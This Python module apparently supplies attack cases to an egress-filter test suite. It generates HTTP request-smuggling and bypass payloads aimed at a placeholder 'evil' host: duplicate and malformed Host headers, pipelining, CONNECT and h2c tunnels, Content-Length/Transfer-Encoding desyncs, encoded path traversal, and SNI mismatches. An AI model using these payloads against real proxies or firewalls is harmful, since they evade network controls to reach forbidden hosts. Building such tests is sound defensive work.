"""Requests that ask for somebody else over a connection that is allowed, as data.

Rows 20 and 21 of table C in the facts about peers. Every server of the world that is meant here
falls for its row: the document of the evil name comes back.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import replace

from tests.egress.attacks import EVIL, HTTP, TLS, Attack, get, of
from tests.egress.servers.places import LENGTH_FIRST, NO_BODIES, SHARED

GOOD = "files.example.com"
EVIL_REQUEST = get(EVIL)
PATHS = "paths.example.com"
HIDDEN = "hidden"
MAY = tuple(("tcp", address, 80) for address in (*SHARED, LENGTH_FIRST, NO_BODIES))
PAUSE_S = 0.2


def smuggled(
    name: str, send: str, *, to: str = GOOD, then: tuple[str, ...] = (), gets: str = EVIL
) -> Attack:
    """Make a row of something that is sent to port 80 of an allowed name."""
    return Attack(
        name=name, walls=HTTP, says=f"{to}:80", rule=f"egress: {to}:80", gets=of(gets), may=MAY,
        do={"do": "tcp", "to": to, "port": 80, "send": send, "then": then, "pause_s": PAUSE_S,
            "until": of(gets)},
    )  # fmt: skip


def head(*lines: str, method: str = "POST", host: str = GOOD, target: str = "/") -> str:
    """Write a head with further lines."""
    return "\r\n".join([f"{method} {target} HTTP/1.1", f"Host: {host}", *lines, "", ""])


def other_host() -> Iterator[Attack]:
    """The request itself names another."""
    for host in (
        EVIL, EVIL.upper(), f"{EVIL}:80", f"{EVIL}.", f"{EVIL}\0", f"{GOOD}@{EVIL}", f"\t{EVIL}",
    ):  # fmt: skip
        gets = EVIL.upper() if host.isupper() else host.strip("\0\t").rpartition("@")[2]
        yield smuggled(f"Host is {host!r}", get(host), gets=gets)
    yield smuggled("Host twice", head(f"Host: {EVIL}", method="GET"))
    yield smuggled("Host twice, once with a blank", head(f"Host : {EVIL}", method="GET"))
    yield smuggled("Host twice, the evil first, then folded away",
                   f"GET / HTTP/1.1\r\nX: y\r\nHost: {GOOD}\r\nHOST: {EVIL}\r\n\r\n")  # fmt: skip
    yield smuggled("lines end with LF alone", f"GET / HTTP/1.1\nHost: {GOOD}\nHost: {EVIL}\n\n")
    yield smuggled("no Host at all", "GET / HTTP/1.1\r\nConnection: close\r\n\r\n", gets="")
    yield smuggled("no Host in HTTP/1.0", "GET / HTTP/1.0\r\n\r\n", gets="")
    yield smuggled("no version", f"GET http://{EVIL}/\r\n\r\n")
    for version in ("1.0", "1.1"):
        target = f"http://{EVIL}/"
        line = f"GET {target} HTTP/{version}\r\nHost: {GOOD}\r\n\r\n"
        yield smuggled(f"absolute form, HTTP/{version}", line)
    yield smuggled(
        "absolute form with userinfo", head(method="GET", target=f"http://{GOOD}@{EVIL}/")
    )


def later() -> Iterator[Attack]:
    """A first request that may pass, and another behind it."""
    first = head(method="GET")
    yield smuggled("pipelined", first + EVIL_REQUEST)
    yield smuggled("on a connection that is kept", first, then=(EVIL_REQUEST,))
    yield smuggled("after a body", head("Content-Length: 2") + "ab" + EVIL_REQUEST)
    yield smuggled(
        "after chunks", head("Transfer-Encoding: chunked") + "2\r\nab\r\n0\r\n\r\n" + EVIL_REQUEST
    )
    yield smuggled("after an expectation", head("Expect: 100-continue", "Content-Length: 2"),
                   then=("ab" + EVIL_REQUEST,))  # fmt: skip


def tunnels() -> Iterator[Attack]:
    """What makes the connection something that nobody looks into."""
    for target in (f"{EVIL}:80", f"{SHARED[0]}:80", f"{GOOD}:80", f"[{SHARED[1]}]:80"):
        yield smuggled(
            f"CONNECT {target}", f"CONNECT {target} HTTP/1.1\r\nHost: {GOOD}\r\n\r\n",
            then=(EVIL_REQUEST,),
        )  # fmt: skip
    h2c = head("Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c", "HTTP2-Settings: AAMAAABk",
               method="GET")  # fmt: skip
    yield smuggled("upgrade to h2c", h2c, then=(f"\0\0\0\1:authority {EVIL}",))
    preface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
    yield smuggled("HTTP/2 without asking", f"{preface}\0\0\0\1:authority {EVIL}")
    other = head("Connection: Upgrade", "Upgrade: TLS/1.0", method="OPTIONS", target="*")
    yield smuggled("upgrade to something else", other, then=(f"host: {EVIL}",))


def framings() -> Iterator[Attack]:
    """Two may read one message in two ways."""
    body = "0\r\n\r\n" + EVIL_REQUEST
    length = f"Content-Length: {len(body)}"
    for chunked in (
        "Transfer-Encoding: chunked", "Transfer-Encoding : chunked", "Transfer-Encoding:\tchunked",
        "Transfer-Encoding:\vchunked", "Transfer-Encoding: xchunked", "transfer-encoding: CHUNKED",
        "Transfer-Encoding: identity, chunked", "Transfer-Encoding: chunked, identity",
        "Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
        "X: y\nTransfer-Encoding: chunked",
        "Transfer-Encoding:\r\n chunked", "X: y\r\nTransfer-Encoding: \"chunked\"",
        "Transfer-Encoding: chunked\0", "\vTransfer-Encoding: chunked",
    ):  # fmt: skip
        yield smuggled(f"length and {chunked!r}", head(length, chunked) + body)
        yield smuggled(f"{chunked!r} and length", head(chunked, length) + body)
    chunk = f"{len(EVIL_REQUEST):x}\r\n"
    yield smuggled(
        "a server that believes the length", to="length.example.com",
        send=head(f"Content-Length: {len(chunk)}", "Transfer-Encoding: chunked",
                  host="length.example.com") + chunk + EVIL_REQUEST + "\r\n0\r\n\r\n",
    )  # fmt: skip
    # Allowed, and written anew so that no server takes the body for a request.
    yield replace(smuggled(
        "a server that takes no bodies", to="nobody.example.com",
        send=head(f"Content-Length: {len(EVIL_REQUEST)}", method="GET", host="nobody.example.com")
        + EVIL_REQUEST,
    ), walls=())  # fmt: skip
    many = len(EVIL_REQUEST)
    for lengths in (
        (f"Content-Length: {many}", "Content-Length: 0"), (f"Content-Length: 0, {many}",),
        ("Content-Length: -1",), ("Content-Length: 0\0",),
        ("Content-Length: 0", f"Content-Length : {0}"),
    ):  # fmt: skip
        yield smuggled(f"lengths {lengths!r}", head(*lengths) + EVIL_REQUEST)
    yield smuggled(
        "a length with an underscore", head("Content-Length: 1_0") + "x" * 10 + EVIL_REQUEST
    )
    yield smuggled("a length with a sign", head("Content-Length: +2") + "ab" + EVIL_REQUEST)
    inner = "\r\n" + EVIL_REQUEST
    yield smuggled(
        "LF in the extension of a chunk",
        head("Transfer-Encoding: chunked")
        + f"2;\nxx\r\n00\r\n{len(inner):x}\r\n{inner}\r\n0\r\n\r\n",
    )  # fmt: skip
    yield smuggled(
        "a chunk's size is no number",
        head("Transfer-Encoding: chunked") + "0x2\r\n\r\n" + EVIL_REQUEST,
    )  # fmt: skip


def paths() -> Iterator[Attack]:
    """Rules that name methods and paths."""
    yield smuggled("another method", head(host=PATHS, target="/open/x"), to=PATHS, gets=PATHS)
    yield smuggled("a method in lower case", head(method="post", host=PATHS, target="/open/x"),
                   to=PATHS, gets=PATHS)  # fmt: skip
    for path in (
        "/hidden", "/open/../hidden", "/open/%2e%2e/hidden", "/open/..%2fhidden", "/%68idden",
        "/open/%2E%2E%2Fhidden", "//hidden", "/open/./../hidden", "/open//../../hidden",
    ):  # fmt: skip
        yield smuggled(f"the path {path}", get(PATHS, path), to=PATHS, gets=HIDDEN)
    yield smuggled("a later path", get(PATHS, "/open/x").replace("close", "keep-alive")
                   + get(PATHS, "/hidden"), to=PATHS, gets=HIDDEN)  # fmt: skip


def terminated() -> Iterator[Attack]:
    """The same inside TLS that ends at the broker: another name, a path that no rule has."""
    for name, to, host, path, gets in (
        ("another Host inside TLS", "api.github.com", EVIL, "/", EVIL),
        ("a path inside TLS", GOOD, GOOD, "/hidden", HIDDEN),
    ):
        yield Attack(
            name=name, walls=HTTP, says=f"{to}:443", rule=f"egress: {to}:443", gets=of(gets),
            may=tuple(("tcp", address, 443) for address in SHARED), profile="terminating",
            do={"do": "tcp", "to": to, "port": 443, "tls": {"sni": to}, "send": get(host, path),
                "until": of(gets)},
        )  # fmt: skip
    for sni in (EVIL, None):
        yield Attack(
            name=f"server name {sni} where TLS ends", walls=TLS, says="api.github.com:443",
            rule="egress: api.github.com:443", gets=of(EVIL), profile="terminating",
            may=tuple(("tcp", address, 443) for address in SHARED),
            do={"do": "tcp", "to": "api.github.com", "port": 443, "tls": {"sni": sni},
                "send": get(EVIL), "until": of(EVIL)},
        )  # fmt: skip


SMUGGLED = (other_host, later, tunnels, framings, paths, terminated)
